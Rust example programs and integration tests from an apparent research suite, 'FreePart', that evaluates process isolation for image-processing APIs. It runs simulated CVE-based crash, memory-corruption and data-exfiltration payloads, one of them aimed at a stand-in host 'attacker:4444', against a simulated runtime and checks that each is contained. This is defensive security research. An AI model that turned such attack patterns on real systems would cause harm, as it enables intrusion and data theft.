    session("unprotected viewer", &mut orig, addr);

    let addr = probe_addr(&mut Runtime::install(
        standard_registry(),
        Policy::freepart(),
    ));
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    session("FreePart viewer", &mut fp, addr);
    println!("two independent defenses fired: the recent list lives in the host");
    println!("process (the read faulted), and the loading agent's seccomp filter");
    println!("has no socket/connect/send (the exfiltration path is closed).");
}
