//! The paper's §6 multi-threading model: a server handling requests on
//! several worker threads, each with **its own set of four agent
//! processes** — a crash triggered by one client's malicious upload
//! cannot even perturb another thread's pipeline.
//!
//! ```text
//! cargo run --example multithreaded_server
//! ```

use freepart_suite::attacks::payloads;
use freepart_suite::core::{Policy, Runtime, ThreadId};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::{fileio, image::Image, Value};

fn upload(rt: &mut Runtime, thread: ThreadId, name: &str, evil: bool) -> bool {
    let path = format!("/uploads/{thread}/{name}");
    let img = Image::new(24, 24, 3);
    let payload = evil.then(|| payloads::dos("CVE-2017-14136"));
    rt.kernel
        .fs
        .put(&path, fileio::encode_image(&img, payload.as_ref()));
    let ok = (|| {
        let loaded = rt.call_on(thread, "cv2.imread", &[Value::Str(path)])?;
        let gray = rt.call_on(thread, "cv2.cvtColor", &[loaded])?;
        let thumb = rt.call_on(thread, "cv2.resize", &[gray, Value::I64(8), Value::I64(8)])?;
        rt.call_on(
            thread,
            "cv2.imwrite",
            &[Value::Str(format!("/thumbs/{thread}/{name}")), thumb],
        )?;
        Ok::<(), freepart_suite::core::CallError>(())
    })();
    ok.is_ok()
}

fn main() {
    // Security-over-availability config so the blast radius is visible.
    let mut rt = Runtime::install(standard_registry(), Policy::no_restart());
    let workers: Vec<ThreadId> = (0..3).map(|_| rt.spawn_thread()).collect();
    println!(
        "server up: {} processes (host + 4 main agents + 3 workers x 4 agents)",
        rt.kernel.process_count()
    );

    // Worker 1's client uploads a crafted image mid-stream.
    let mut served = vec![0u32; workers.len()];
    for round in 0..4 {
        for (w, &thread) in workers.iter().enumerate() {
            let evil = w == 1 && round == 1;
            if upload(&mut rt, thread, &format!("img{round}.simg"), evil) {
                served[w] += 1;
            } else {
                println!("worker {w}: request {round} contained (exploit in its loading agent)");
            }
        }
    }
    for (w, &thread) in workers.iter().enumerate() {
        println!(
            "worker {w} ({thread}): served {}/4 requests, state = {}",
            served[w],
            rt.state_of(thread)
        );
    }
    println!("host alive: {}", rt.kernel.is_running(rt.host_pid()));
    assert_eq!(served[0], 4, "worker 0 untouched");
    assert_eq!(served[2], 4, "worker 2 untouched");
    assert!(served[1] < 4, "worker 1 lost its poisoned stream only");
}
