//! The paper's §6 multi-threading model two ways: a server handling
//! requests on several worker threads —
//!
//! * **per-thread** (the paper's deployment): each worker owns four
//!   agent processes; a crash triggered by one client's malicious
//!   upload cannot even perturb another thread's pipeline, at 4 extra
//!   processes per worker.
//! * **pooled** (`Policy::freepart_pooled()`): all workers share the
//!   four `part0..part3` pools behind a deficit-round-robin scheduler;
//!   the blast radius of the same exploit is one supervised restart of
//!   one shared agent, at 1 extra process per worker.
//!
//! ```text
//! cargo run --example multithreaded_server
//! ```

use freepart_suite::attacks::payloads;
use freepart_suite::core::{Policy, Runtime, TenantId, ThreadId};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::{fileio, image::Image, Value};

fn upload(rt: &mut Runtime, thread: ThreadId, name: &str, evil: bool) -> bool {
    let path = format!("/uploads/{thread}/{name}");
    let img = Image::new(24, 24, 3);
    let payload = evil.then(|| payloads::dos("CVE-2017-14136"));
    rt.kernel
        .fs
        .put(&path, fileio::encode_image(&img, payload.as_ref()));
    let ok = (|| {
        let loaded = rt.call_on(thread, "cv2.imread", &[Value::Str(path)])?;
        let gray = rt.call_on(thread, "cv2.cvtColor", &[loaded])?;
        let thumb = rt.call_on(thread, "cv2.resize", &[gray, Value::I64(8), Value::I64(8)])?;
        rt.call_on(
            thread,
            "cv2.imwrite",
            &[Value::Str(format!("/thumbs/{thread}/{name}")), thumb],
        )?;
        Ok::<(), freepart_suite::core::CallError>(())
    })();
    ok.is_ok()
}

fn upload_pooled(rt: &mut Runtime, tenant: TenantId, name: &str, evil: bool) -> bool {
    let path = format!("/uploads/{tenant}/{name}");
    let img = Image::new(24, 24, 3);
    let payload = evil.then(|| payloads::dos("CVE-2017-14136"));
    rt.kernel
        .fs
        .put(&path, fileio::encode_image(&img, payload.as_ref()));
    let ok = (|| {
        let loaded = rt.call_tenant(tenant, "cv2.imread", &[Value::Str(path)])?;
        let gray = rt.call_tenant(tenant, "cv2.cvtColor", &[loaded])?;
        let thumb = rt.call_tenant(tenant, "cv2.resize", &[gray, Value::I64(8), Value::I64(8)])?;
        rt.call_tenant(
            tenant,
            "cv2.imwrite",
            &[Value::Str(format!("/thumbs/{tenant}/{name}")), thumb],
        )?;
        Ok::<(), freepart_suite::core::CallError>(())
    })();
    ok.is_ok()
}

fn main() {
    // Security-over-availability config so the blast radius is visible.
    let mut rt = Runtime::install(standard_registry(), Policy::no_restart());
    let workers: Vec<ThreadId> = (0..3).map(|_| rt.spawn_thread()).collect();
    println!(
        "server up: {} processes (host + 4 main agents + 3 workers x 4 agents)",
        rt.kernel.process_count()
    );

    // Worker 1's client uploads a crafted image mid-stream.
    let mut served = vec![0u32; workers.len()];
    for round in 0..4 {
        for (w, &thread) in workers.iter().enumerate() {
            let evil = w == 1 && round == 1;
            if upload(&mut rt, thread, &format!("img{round}.simg"), evil) {
                served[w] += 1;
            } else {
                println!("worker {w}: request {round} contained (exploit in its loading agent)");
            }
        }
    }
    for (w, &thread) in workers.iter().enumerate() {
        println!(
            "worker {w} ({thread}): served {}/4 requests, state = {}",
            served[w],
            rt.state_of(thread)
        );
    }
    println!("host alive: {}", rt.kernel.is_running(rt.host_pid()));
    assert_eq!(served[0], 4, "worker 0 untouched");
    assert_eq!(served[2], 4, "worker 2 untouched");
    assert!(served[1] < 4, "worker 1 lost its poisoned stream only");
    let per_thread_procs = rt.kernel.process_count();

    // -- The same server, pooled: four shared agents for every worker,
    //    supervised restarts absorbing the exploit.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_pooled());
    let tenants: Vec<TenantId> = (0..3).map(|_| rt.spawn_tenant()).collect();
    let (agents, contexts) = rt.pooled_process_count();
    println!(
        "\npooled server up: {} processes (host + {agents} shared agents + {contexts} tenants) \
         vs {per_thread_procs} per-thread",
        rt.kernel.process_count()
    );

    let mut served = vec![0u32; tenants.len()];
    for round in 0..4 {
        for (w, &tenant) in tenants.iter().enumerate() {
            let evil = w == 1 && round == 1;
            if upload_pooled(&mut rt, tenant, &format!("img{round}.simg"), evil) {
                served[w] += 1;
            } else {
                println!(
                    "tenant {w}: request {round} contained (shared loading agent \
                     restarted by the supervisor)"
                );
            }
        }
    }
    for (w, &tenant) in tenants.iter().enumerate() {
        println!("tenant {w} ({tenant}): served {}/4 requests", served[w]);
    }
    println!(
        "host alive: {}, shared-agent restarts: {}",
        rt.kernel.is_running(rt.host_pid()),
        rt.stats().restarts
    );
    // Blast radius of the shared-agent crash: exactly the poisoned
    // request. Every other request of every tenant — including the
    // attacker tenant's later ones — was served through the restarted
    // pool.
    assert_eq!(served[0], 4, "tenant 0 untouched");
    assert_eq!(served[2], 4, "tenant 2 untouched");
    assert_eq!(served[1], 3, "tenant 1 lost only the poisoned request");
    // The supervisor restarts the crashed pool, retries the request
    // once (which re-trips the exploit), restarts again, and fails the
    // request — every restart confined to the poisoned call.
    assert!(rt.stats().restarts >= 1, "supervised restart happened");
    println!(
        "process cost per extra worker: 4 (per-thread) vs 1 (pooled); \
         blast radius: one stream vs one request"
    );
}
