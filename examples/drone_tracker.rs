//! The §5.4.1 case study: an autonomous object-tracking drone hit by a
//! denial-of-service exploit mid-flight — unprotected it falls out of
//! the sky; under FreePart only one frame is lost.
//!
//! ```text
//! cargo run --example drone_tracker
//! ```

use freepart_suite::apps::drone::{self, DroneConfig};
use freepart_suite::attacks::payloads;
use freepart_suite::baselines::{ApiSurface, MonolithicRuntime};
use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;

fn mission() -> DroneConfig {
    DroneConfig {
        frames: 8,
        // Frame 3 arrives crafted: CVE-2017-14136 crashes imread.
        evil_frame: Some((3, payloads::dos("CVE-2017-14136"))),
    }
}

fn fly(label: &str, surface: &mut dyn ApiSurface) {
    let r = drone::run(surface, &mission());
    println!("--- {label} ---");
    println!(
        "frames processed: {}/8, lost: {}, control loop alive: {}",
        r.frames_processed, r.frames_lost, r.control_loop_alive
    );
    println!("steering commands: {:?}", r.commands);
    if r.control_loop_alive {
        println!("the drone keeps flying (operator can land it safely)\n");
    } else {
        println!("the drone program crashed mid-air\n");
    }
}

fn main() {
    let mut orig = MonolithicRuntime::original(standard_registry());
    fly("unprotected drone", &mut orig);

    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    fly("FreePart drone (restart enabled)", &mut fp);
    println!("loading-agent restarts: {}", fp.stats().restarts);

    let mut fp_no_restart = Runtime::install(standard_registry(), Policy::no_restart());
    fly(
        "FreePart drone (security over availability)",
        &mut fp_no_restart,
    );
    println!("note: without restart the camera path stays down, but the control");
    println!("loop and every other agent keep running — the paper's Fig. 14.");
}
