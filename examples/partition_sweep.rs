//! The Fig. 4 trade-off, interactively: grade the OMR batch with 4, 5,
//! 8, 16, and 25 partitions and watch the hot-loop pair
//! (`cv.rectangle`/`cv.putText`) start paying for finer granularity.
//!
//! ```text
//! cargo run --example partition_sweep
//! ```

use freepart_suite::apps::omr::{self, OmrConfig};
use freepart_suite::core::{PartitionPlan, Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    println!(
        "{:>10} {:>14} {:>10}",
        "partitions", "virtual time", "vs 4-part"
    );
    let mut base = None;
    for n in [4u32, 5, 8, 16, 25] {
        // Average a few random fine-grained splits per point.
        let seeds = 3;
        let mut total = 0u64;
        for seed in 0..seeds {
            let plan = PartitionPlan::random_split(&reg, &universe, n, seed * 31 + n as u64);
            let mut rt = Runtime::install(
                standard_registry(),
                Policy {
                    plan,
                    ..Policy::freepart()
                },
            );
            rt.kernel.reset_accounting();
            omr::run(&mut rt, &OmrConfig::benign(12));
            total += rt.kernel.clock().now_ns();
        }
        let avg = total as f64 / seeds as f64;
        let base_v = *base.get_or_insert(avg);
        println!("{n:>10} {:>11.2} ms {:>9.2}x", avg / 1e6, avg / base_v);
    }
    println!(
        "\nFour partitions (the paper's choice) is the knee of the curve: beyond it,\n\
         frequently-cooperating processing APIs get separated and their shared\n\
         image bounces between processes on every call."
    );
}
