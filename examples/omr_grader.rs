//! The motivating example end-to-end: OMRChecker grading a batch of
//! submissions, first unprotected, then under FreePart, with the
//! grade-tampering attack of Fig. 1 in the middle of the batch.
//!
//! ```text
//! cargo run --example omr_grader
//! ```

use freepart_suite::apps::omr::{self, OmrConfig};
use freepart_suite::attacks::{judge, AttackGoal};
use freepart_suite::baselines::{ApiSurface, MonolithicRuntime};
use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;

fn attack_config(template_addr: u64) -> OmrConfig {
    OmrConfig {
        samples: 6,
        boxes_per_sample: 4,
        // Submission #2 is the malicious student's crafted image: it
        // exploits CVE-2017-12597 in imread to move the answer-mark
        // coordinates (Fig. 1-c).
        evil_sample: Some((
            2,
            freepart_suite::attacks::payloads::corrupt(
                "CVE-2017-12597",
                template_addr,
                vec![0xFF; 64],
            ),
        )),
        evil_imshow: None,
    }
}

fn template_addr_of<S: ApiSurface>(mut probe: S) -> u64 {
    let r = omr::run(&mut probe, &OmrConfig::benign(0));
    probe
        .objects()
        .meta(r.template)
        .unwrap()
        .buffer
        .unwrap()
        .0
         .0
}

fn main() {
    println!("=== OMRChecker, unprotected ===");
    let addr = template_addr_of(MonolithicRuntime::original(standard_registry()));
    let mut orig = MonolithicRuntime::original(standard_registry());
    let r = omr::run(&mut orig, &attack_config(addr));
    println!(
        "graded {} of 6 submissions; scores: {:?}",
        r.completed, r.scores
    );
    let log = orig.exploit_log().to_vec();
    let (kernel, objects, host) = orig.attack_view();
    let verdict = judge(
        &AttackGoal::CorruptObject {
            id: r.template,
            original: r.template_original,
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("template corruption: {verdict:?}  <-- every later submission is misgraded\n");

    println!("=== OMRChecker under FreePart ===");
    let addr = template_addr_of(Runtime::install(standard_registry(), Policy::freepart()));
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    let r = omr::run(&mut fp, &attack_config(addr));
    println!(
        "graded {} of 6 submissions; scores: {:?}",
        r.completed, r.scores
    );
    println!("containment events: {:?}", r.errors);
    let log = fp.exploit_log.clone();
    let (kernel, objects, host) = fp.attack_view();
    let verdict = judge(
        &AttackGoal::CorruptObject {
            id: r.template,
            original: r.template_original,
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("template corruption: {verdict:?}  <-- write faulted in the loading agent");
    println!(
        "results written: {}, restarts: {}",
        r.results_written,
        fp.stats().restarts
    );
}
