//! Multi-tenant agent pools: transparency, isolation, fairness, and
//! supervision — the pooled deployment model must change *scheduling
//! and process count*, never outputs or the security story.

use freepart_suite::apps::tenants::{run_chain_on, run_chain_pooled, stage_input, ChainOutput};
use freepart_suite::core::{AuditRecord, CallError, Policy, RestartBudget, Runtime, TenantId};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::Value;
use proptest::prelude::*;

fn pooled_rt() -> Runtime {
    Runtime::install(standard_registry(), Policy::freepart_pooled())
}

/// A solo reference run: the same tenant input through a fresh pooled
/// runtime with nobody else admitted — pure pipeline semantics with
/// zero scheduling interference.
fn solo_output(n: u32) -> ChainOutput {
    let mut rt = pooled_rt();
    let path = stage_input(&mut rt, n);
    let t = rt.spawn_tenant();
    run_chain_pooled(&mut rt, t, &path).expect("solo chain runs")
}

// ----------------------------------------------------------------------
// Process census and basic transparency
// ----------------------------------------------------------------------

#[test]
fn pooled_process_count_is_4_plus_n_not_5n() {
    let mut pooled = pooled_rt();
    let mut tenants = Vec::new();
    for _ in 0..10 {
        tenants.push(pooled.spawn_tenant());
    }
    let (agents, contexts) = pooled.pooled_process_count();
    assert_eq!(agents, 4, "four shared pools");
    assert_eq!(contexts, 10, "one lightweight context per tenant");

    // Per-thread baseline: every spawned thread brings a full agent set.
    let mut baseline = Runtime::install(standard_registry(), Policy::freepart());
    for _ in 0..10 {
        baseline.spawn_thread();
    }
    // 4 for MAIN + 4 per spawned thread.
    assert_eq!(baseline.partitions().len(), 4 * 11);
}

#[test]
fn pooled_chain_matches_per_thread_baseline_outputs() {
    let mut pooled = pooled_rt();
    let mut baseline = Runtime::install(standard_registry(), Policy::freepart());
    for n in 0..3u32 {
        let path_p = stage_input(&mut pooled, n);
        let path_b = stage_input(&mut baseline, n);
        let tenant = pooled.spawn_tenant();
        let thread = baseline.spawn_thread();
        let got = run_chain_pooled(&mut pooled, tenant, &path_p).unwrap();
        let want = run_chain_on(&mut baseline, thread, &path_b).unwrap();
        assert_eq!(got, want, "tenant {n} diverged from per-thread baseline");
    }
}

// ----------------------------------------------------------------------
// The capability gate
// ----------------------------------------------------------------------

#[test]
fn cross_tenant_object_access_is_denied_and_audited() {
    let mut rt = pooled_rt();
    rt.enable_tracing();
    let victim = rt.spawn_tenant();
    let attacker = rt.spawn_tenant();
    let path = stage_input(&mut rt, 0);
    let img = rt
        .call_tenant(victim, "cv2.imread", &[Value::from(path.as_str())])
        .unwrap();
    let obj = img.as_obj().unwrap();

    // The attacker names the victim's object as a call argument…
    let denied = rt.call_tenant(attacker, "cv2.GaussianBlur", std::slice::from_ref(&img));
    assert!(
        matches!(
            denied,
            Err(CallError::TenantDenied { tenant, object }) if tenant == attacker.0 && object == obj
        ),
        "expected TenantDenied, got {denied:?}"
    );
    // …and tries a direct fetch.
    assert!(matches!(
        rt.tenant_fetch(attacker, obj),
        Err(CallError::TenantDenied { .. })
    ));

    // Both denials were counted and audited with full context.
    assert_eq!(rt.stats().tenant_denials, 2);
    let audits: Vec<_> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter(|r| {
            matches!(
                r,
                AuditRecord::CrossTenantDenied { tenant, object, owner, .. }
                    if *tenant == attacker.0 && *object == obj && *owner == victim.0
            )
        })
        .collect();
    assert_eq!(audits.len(), 2, "one audit record per denial");

    // The victim's own access still works.
    assert!(rt.tenant_fetch(victim, obj).is_ok());
    assert!(rt.call_tenant(victim, "cv2.GaussianBlur", &[img]).is_ok());
}

#[test]
fn capability_slots_are_minted_per_tenant() {
    let mut rt = pooled_rt();
    let a = rt.spawn_tenant();
    let b = rt.spawn_tenant();
    let pa = stage_input(&mut rt, 1);
    let pb = stage_input(&mut rt, 2);
    run_chain_pooled(&mut rt, a, &pa).unwrap();
    run_chain_pooled(&mut rt, b, &pb).unwrap();
    let mut admitted = 0;
    for p in rt.partitions() {
        let agent = rt.agent(p).unwrap();
        admitted += agent.cap_count(a.0) + agent.cap_count(b.0);
        // No slot names an object the other tenant owns (the gate never
        // admitted a foreign handle anywhere).
        for t in agent.cap_tenants() {
            assert!(t == a.0 || t == b.0);
        }
    }
    assert!(admitted > 0, "chains mint capability slots");
}

// ----------------------------------------------------------------------
// Supervisor × pools: restart re-admits every tenant's namespace
// ----------------------------------------------------------------------

#[test]
fn shared_pool_crash_restarts_once_and_readmits_every_tenant() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            warm_spares: 2,
            restart_budget: Some(RestartBudget::default()),
            ..Policy::freepart_pooled()
        },
    );
    let tenants: Vec<TenantId> = (0..3).map(|_| rt.spawn_tenant()).collect();
    let paths: Vec<String> = (0..3).map(|n| stage_input(&mut rt, n)).collect();

    // Every tenant loads its frame: all three namespaces now hold
    // capability slots at the loading pool.
    let imgs: Vec<Value> = tenants
        .iter()
        .zip(&paths)
        .map(|(t, p)| {
            rt.call_tenant(*t, "cv2.imread", &[Value::from(p.as_str())])
                .unwrap()
        })
        .collect();
    let load_pool = rt.partition_of(rt.registry().id_of("cv2.imread").expect("catalog API"));
    let caps_before: Vec<usize> = tenants
        .iter()
        .map(|t| rt.agent(load_pool).unwrap().cap_count(t.0))
        .collect();
    assert!(caps_before.iter().all(|&c| c > 0));
    let journal_before: Vec<Vec<u64>> = tenants
        .iter()
        .map(|t| rt.agent(load_pool).unwrap().journal_entries_for(t.0))
        .collect();

    // Kill the shared loading agent in the response window of the next
    // call: the supervisor must restart it exactly once, and the
    // journal must answer the retry without re-running side effects.
    rt.inject_crash_before_response(load_pool);
    let again = rt
        .call_tenant(tenants[0], "cv2.imread", &[Value::from(paths[0].as_str())])
        .unwrap();
    assert!(matches!(again, Value::Obj(_)));
    assert_eq!(rt.stats().restarts, 1, "exactly one supervised restart");

    // Every tenant's capability namespace survived the respawn…
    for (i, t) in tenants.iter().enumerate() {
        let after = rt.agent(load_pool).unwrap().cap_count(t.0);
        assert!(
            after >= caps_before[i],
            "tenant {i} lost capability slots across restart"
        );
        // …including its journal slice (exactly-once replay evidence):
        // every pre-crash entry still present is still tagged to the
        // same tenant.
        let after_j = rt.agent(load_pool).unwrap().journal_entries_for(t.0);
        for seq in &journal_before[i] {
            assert!(
                after_j.contains(seq) || *seq <= rt.agent(load_pool).unwrap().journal_watermark(),
                "tenant {i} journal entry {seq} vanished un-acked"
            );
        }
    }

    // Every tenant can still run its full pipeline through the
    // respawned pool (pre-crash payloads homed in the dead agent are
    // legitimately lost — §6: crashed-process state is not restored —
    // so each tenant reloads from its own staged file).
    let fresh: Vec<Value> = tenants
        .iter()
        .zip(&paths)
        .map(|(t, p)| {
            let img = rt
                .call_tenant(*t, "cv2.imread", &[Value::from(p.as_str())])
                .unwrap();
            rt.call_tenant(*t, "cv2.GaussianBlur", std::slice::from_ref(&img))
                .unwrap();
            img
        })
        .collect();
    // And the gate still holds after the restart.
    let denied = rt.call_tenant(tenants[1], "cv2.GaussianBlur", &[fresh[0].clone()]);
    assert!(matches!(denied, Err(CallError::TenantDenied { .. })));
    assert_eq!(rt.stats().restarts, 1, "still exactly one restart");
    let _ = imgs;
}

// ----------------------------------------------------------------------
// Properties: transparency under interleaving; starvation freedom
// ----------------------------------------------------------------------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Random interleavings of N tenants' chains through the shared
    /// pools produce per-tenant outputs byte-identical to each tenant's
    /// solo run: DRR scheduling reorders service, never results.
    #[test]
    fn tenant_transparency_under_random_interleaving(
        n_tenants in 2usize..5,
        schedule in proptest::collection::vec(any::<u8>(), 8..64),
    ) {
        let mut rt = pooled_rt();
        let tenants: Vec<TenantId> = (0..n_tenants).map(|_| rt.spawn_tenant()).collect();
        let paths: Vec<String> =
            (0..n_tenants as u32).map(|n| stage_input(&mut rt, n)).collect();

        // Drive each tenant's 4-step chain with a data-dependent random
        // schedule: at every step, pick the next eligible tenant from
        // the schedule bytes, keeping queues genuinely contended.
        let mut step = vec![0usize; n_tenants];
        let mut val: Vec<Value> =
            paths.iter().map(|p| Value::from(p.as_str())).collect();
        let mut blurred: Vec<Option<freepart_suite::frameworks::ObjectId>> =
            vec![None; n_tenants];
        const CHAIN: [&str; 4] =
            ["cv2.imread", "cv2.cvtColor", "cv2.GaussianBlur", "cv2.findContours"];
        let mut cursor = 0usize;
        while step.iter().any(|&s| s < CHAIN.len()) {
            let pick = schedule[cursor % schedule.len()] as usize % n_tenants;
            cursor += 1;
            let i = (0..n_tenants)
                .map(|k| (pick + k) % n_tenants)
                .find(|&k| step[k] < CHAIN.len())
                .expect("some tenant has steps left");
            let api = CHAIN[step[i]];
            let out = rt.call_tenant(tenants[i], api, &[val[i].clone()]).unwrap();
            if api == "cv2.GaussianBlur" {
                blurred[i] = out.as_obj();
            }
            val[i] = out;
            step[i] += 1;
        }

        for i in 0..n_tenants {
            let bytes = rt
                .tenant_fetch(tenants[i], blurred[i].expect("blur ran"))
                .unwrap();
            let got = ChainOutput { rects: val[i].clone(), bytes };
            let want = solo_output(i as u32);
            prop_assert_eq!(&got, &want, "tenant {} output depends on interleaving", i);
        }
    }

    /// Deficit-round-robin starvation freedom: no matter how hard one
    /// tenant floods a pool, every victim's single queued call is
    /// served within the DRR window implied by the quantum.
    #[test]
    fn no_tenant_starves_under_a_flood(
        flood in 8u32..64,
        n_victims in 1usize..4,
    ) {
        let mut rt = pooled_rt();
        let chatty = rt.spawn_tenant();
        let victims: Vec<TenantId> = (0..n_victims).map(|_| rt.spawn_tenant()).collect();
        let path = stage_input(&mut rt, 0);

        // The chatty tenant floods the loading pool…
        let mut handles = Vec::new();
        for _ in 0..flood {
            handles.push(
                rt.tenant_submit(chatty, "cv2.imread", &[Value::from(path.as_str())])
                    .unwrap(),
            );
        }
        // …then every victim queues one call behind the flood.
        let victim_handles: Vec<_> = victims
            .iter()
            .map(|v| {
                rt.tenant_submit(*v, "cv2.imread", &[Value::from(path.as_str())])
                    .unwrap()
            })
            .collect();
        rt.pump_all();

        let quantum = 2u64; // PoolConfig::default().quantum
        let n_other = n_victims as u64; // other tenants sharing the pool with chatty
        for (i, h) in victim_handles.iter().enumerate() {
            let (foreign, own_ahead) = rt.ticket_fairness(*h).expect("pumped");
            prop_assert_eq!(own_ahead, 0, "victims queued one call each");
            // One full DRR window: every other tenant may be served at
            // most quantum items per ring pass, and a single-item
            // backlog is served within ceil(1/Q)+1 = 2 passes.
            let bound = (n_other + 1) * quantum * 2;
            prop_assert!(
                foreign <= bound,
                "victim {} waited behind {} foreign items (bound {})",
                i, foreign, bound
            );
        }
        // The flood itself completed too (work conservation).
        for h in &handles {
            prop_assert!(rt.tenant_wait(*h).is_ok());
        }
    }
}
