//! Workspace-level integration tests: the full stack — analysis →
//! partitioning → runtime → applications → attacks — exercised across
//! crate boundaries.

use freepart_suite::apps::omr::{self, OmrConfig};
use freepart_suite::apps::{resolve, run_app, RunOptions, TABLE6};
use freepart_suite::attacks::{judge, payloads, AttackGoal, Verdict, TABLE5};
use freepart_suite::baselines::{build, ApiSurface, SchemeKind};
use freepart_suite::core::{Policy, Runtime};
use freepart_suite::frameworks::registry::standard_registry;
use freepart_suite::frameworks::Value;

#[test]
fn grading_results_identical_across_all_schemes() {
    // Functional correctness: every isolation scheme must grade
    // identically to the unprotected original (§5 "Correctness").
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let mut reference: Option<Vec<f64>> = None;
    for kind in SchemeKind::ALL {
        let mut s = build(kind, standard_registry(), &universe);
        let r = omr::run(s.as_mut(), &OmrConfig::benign(6));
        assert_eq!(r.completed, 6, "{}", kind.name());
        assert!(r.errors.is_empty(), "{}: {:?}", kind.name(), r.errors);
        match &reference {
            None => reference = Some(r.scores),
            Some(want) => assert_eq!(&r.scores, want, "{} diverged", kind.name()),
        }
    }
}

#[test]
fn full_analysis_pipeline_feeds_the_runtime() {
    // categorize → profile → install → call, all explicit.
    use freepart_suite::analysis::{categorize, SyscallProfile, TestCorpus};
    let reg = standard_registry();
    let corpus = TestCorpus::full(&reg);
    let report = categorize(&reg, &corpus);
    assert_eq!(report.accuracy(&reg), 1.0);
    let profile = SyscallProfile::build(&reg, &corpus);
    let mut rt = Runtime::install_with(standard_registry(), report, profile, Policy::freepart());
    let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
    rt.kernel.fs.put(
        "/x.simg",
        freepart_suite::frameworks::fileio::encode_image(&img, None),
    );
    let v = rt.call("cv2.imread", &[Value::from("/x.simg")]).unwrap();
    assert!(matches!(v, Value::Obj(_)));
}

#[test]
fn every_cve_dos_is_contained_and_every_scheme_judged() {
    // Cross-crate: attacks registry ↔ frameworks vulnerabilities ↔
    // runtime containment.
    let reg = standard_registry();
    for cve in TABLE5.iter().take(4) {
        // Spot-check the imread-family CVEs end to end.
        if cve.api != "cv2.imread" {
            continue;
        }
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
        rt.kernel.fs.put(
            "/evil.simg",
            freepart_suite::frameworks::fileio::encode_image(&img, Some(&payloads::dos(cve.id))),
        );
        let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        assert_eq!(
            judge(&AttackGoal::CrashHost, kernel, objects, host, &log),
            Verdict::Prevented,
            "{}",
            cve.id
        );
    }
    let _ = reg;
}

#[test]
fn table6_apps_run_under_freepart_with_matching_outputs() {
    // A sample of the Table 6 suite under full isolation.
    let reg = standard_registry();
    for id in [1u32, 8, 15, 20] {
        let spec = TABLE6.iter().find(|s| s.id == id).unwrap();
        let app = resolve(spec, &reg);
        let expected: u64 = app.schedules.values().map(|s| s.total() as u64).sum();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let report = run_app(&app, &reg, &mut rt, &RunOptions::default())
            .unwrap_or_else(|e| panic!("{}: {e}", spec.name));
        assert_eq!(report.calls, expected, "{}", spec.name);
        assert!(rt.kernel.is_running(rt.host_pid()));
    }
}

#[test]
fn freepart_overhead_stays_single_digit_on_sampled_apps() {
    for id in [3u32, 12, 21] {
        let o = freepart_bench_overhead(id);
        assert!(o > 0.0 && o < 0.10, "app {id}: overhead {o}");
    }
}

fn freepart_bench_overhead(id: u32) -> f64 {
    let reg = standard_registry();
    let spec = TABLE6.iter().find(|s| s.id == id).unwrap();
    let app = resolve(spec, &reg);
    let opts = RunOptions::default();
    let base = {
        let mut rt = freepart_suite::baselines::MonolithicRuntime::original(standard_registry());
        rt.kernel.reset_accounting();
        run_app(&app, &reg, &mut rt, &opts).unwrap();
        rt.kernel.clock().now_ns()
    };
    let fp = {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        rt.kernel.reset_accounting();
        run_app(&app, &reg, &mut rt, &opts).unwrap();
        rt.kernel.clock().now_ns()
    };
    fp as f64 / base.max(1) as f64 - 1.0
}

#[test]
fn exploit_in_one_agent_never_reaches_other_agents_memory() {
    // Structural isolation: plant distinct markers in every process and
    // verify a loading-agent exploit can only read its own.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    let img = freepart_suite::frameworks::image::Image::new(8, 8, 3);
    rt.kernel.fs.put(
        "/w.simg",
        freepart_suite::frameworks::fileio::encode_image(&img, None),
    );
    // Put a marker object in the processing agent by running a filter.
    let loaded = rt.call("cv2.imread", &[Value::from("/w.simg")]).unwrap();
    let processed = rt.call("cv2.GaussianBlur", &[loaded]).unwrap();
    let p_meta = rt
        .objects
        .meta(processed.as_obj().unwrap())
        .unwrap()
        .clone();
    // Attack: exfiltrate the processing agent's buffer from the loading
    // agent (same numeric address, different address space).
    rt.kernel.fs.put(
        "/evil.simg",
        freepart_suite::frameworks::fileio::encode_image(
            &img,
            Some(&payloads::exfiltrate(
                "CVE-2017-12597",
                p_meta.buffer.unwrap().0 .0,
                16,
                "attacker:4444",
            )),
        ),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    // Whatever bytes the attacker read from its own address space, the
    // processing agent's actual data never reached the network.
    let actual = rt
        .objects
        .read_bytes(&mut rt.kernel, processed.as_obj().unwrap())
        .unwrap();
    assert!(!rt.kernel.network.leaked(&actual[..16.min(actual.len())]));
}

#[test]
fn study_corpus_and_eval_apps_share_the_catalog() {
    // The 56-app study and the 23 eval apps must reference only
    // registered APIs (no dangling ids anywhere in the workspace data).
    let reg = standard_registry();
    for sketch in freepart_suite::apps::study_corpus(&reg) {
        for id in &sketch.calls {
            let _ = reg.spec(*id); // panics on a bad id
        }
    }
    for spec in TABLE6 {
        for id in resolve(spec, &reg).universe() {
            let _ = reg.spec(id);
        }
    }
}
